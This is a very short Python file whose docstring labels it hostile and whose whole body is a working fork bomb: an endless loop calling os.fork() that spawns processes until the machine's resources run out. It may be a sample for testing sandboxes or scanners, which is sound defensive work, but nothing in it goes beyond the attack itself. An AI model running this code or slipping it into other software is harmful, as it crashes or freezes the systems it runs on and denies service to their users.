"""Hostile: forks without end."""
import os

while True:
    os.fork()
